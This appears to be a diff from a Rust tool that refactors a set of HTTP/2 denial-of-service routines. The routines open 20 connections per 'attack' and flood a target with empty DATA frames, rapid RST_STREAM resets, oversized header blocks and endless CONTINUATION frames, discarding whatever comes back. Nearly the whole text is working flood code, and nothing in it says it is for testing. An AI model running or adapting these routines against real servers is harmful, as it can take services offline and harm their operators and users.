@@ -2,10 +2,11 @@
 
 use std::io;
 
-use tokio::io::AsyncWriteExt as _;
+use tokio::io::AsyncWrite;
 
 use super::{Until, on_each, path};
-use crate::wire::{self, Target, flag, kind};
+use crate::target::Target;
+use crate::wire::{self, flag, kind};
 
 /// Connections of one attack.
 const CONNECTIONS: usize = 20;
@@ -30,7 +31,7 @@ pub(super) async fn priorities(target: Target, until: Until) {
 }
 
 pub(super) async fn empty_data(target: Target, until: Until) {
-    flood(target, until, &wire::call(1, path::SESSION), &wire::frame(kind::DATA, 0, 1, &[])).await;
+    flood(target, until, &target.call(1, path::SESSION), &wire::frame(kind::DATA, 0, 1, &[])).await;
 }
 
 /// Sends `first`, and then the same frame for ever, while what comes back is read and forgotten.
@@ -38,9 +39,9 @@ async fn flood(target: Target, until: Until, first: &[u8], frame: &[u8]) {
     let batch = frame.repeat(BATCH);
     on_each(CONNECTIONS, until, async || {
         let stream = target.greet(65_535).await?;
-        let (mut reader, mut writer) = stream.into_split();
+        let (mut reader, mut writer) = tokio::io::split(stream);
         let reading = tokio::spawn(async move { tokio::io::copy(&mut reader, &mut tokio::io::sink()).await });
-        writer.write_all(first).await?;
+        wire::say(&mut writer, first).await?;
         let flooded = send(&mut writer, until, || batch.clone()).await;
         reading.abort();
         flooded
@@ -50,7 +51,7 @@ async fn flood(target: Target, until: Until, first: &[u8], frame: &[u8]) {
 
 pub(super) async fn resets(target: Target, until: Until) {
     each_call(target, until, |stream, batch| {
-        batch.extend(wire::call(stream, path::SESSION));
+        batch.extend(target.call(stream, path::SESSION));
         batch.extend(wire::frame(kind::RST_STREAM, 0, stream, &8_u32.to_be_bytes()));
     })
     .await;
@@ -59,7 +60,7 @@ pub(super) async fn resets(target: Target, until: Until) {
 pub(super) async fn large_headers(target: Target, until: Until) {
     let value = "x".repeat(10_000);
     let more: Vec<(&str, &str)> = (0..20).map(|_| ("x-much", value.as_str())).collect();
-    let block = wire::header_block(path::STATUS, &more);
+    let block = target.headers(path::STATUS, &more);
     each_call(target, until, move |stream, batch| {
         let mut parts = block.chunks(16_000).peekable();
         let mut kind = kind::HEADERS;
@@ -76,7 +77,7 @@ pub(super) async fn large_headers(target: Target, until: Until) {
 async fn each_call(target: Target, until: Until, call: impl Fn(u32, &mut Vec<u8>)) {
     on_each(CONNECTIONS, until, async || {
         let stream = target.greet(65_535).await?;
-        let (mut reader, mut writer) = stream.into_split();
+        let (mut reader, mut writer) = tokio::io::split(stream);
         let reading = tokio::spawn(async move { tokio::io::copy(&mut reader, &mut tokio::io::sink()).await });
         let mut number = 1;
         let flooded = send(&mut writer, until, || {
@@ -95,18 +96,18 @@ async fn each_call(target: Target, until: Until, call: impl Fn(u32, &mut Vec<u8>
 }
 
 pub(super) async fn continuations(target: Target, until: Until) {
-    let more = wire::frame(kind::CONTINUATION, 0, 1, &wire::header_block(path::STATUS, &[]));
+    let more = wire::frame(kind::CONTINUATION, 0, 1, &target.headers(path::STATUS, &[]));
     let first = wire::frame(kind::HEADERS, 0, 1, &[]);
     flood(target, until, &first, &more).await;
 }
 
 async fn send(
-    writer: &mut tokio::net::tcp::OwnedWriteHalf,
+    writer: &mut (impl AsyncWrite + Unpin),
     until: Until,
     mut batch: impl FnMut() -> Vec<u8>,
 ) -> io::Result<()> {
     while !until.over() {
-        writer.write_all(&batch()).await?;
+        wire::say(writer, &batch()).await?;
     }
     Ok(())
 }
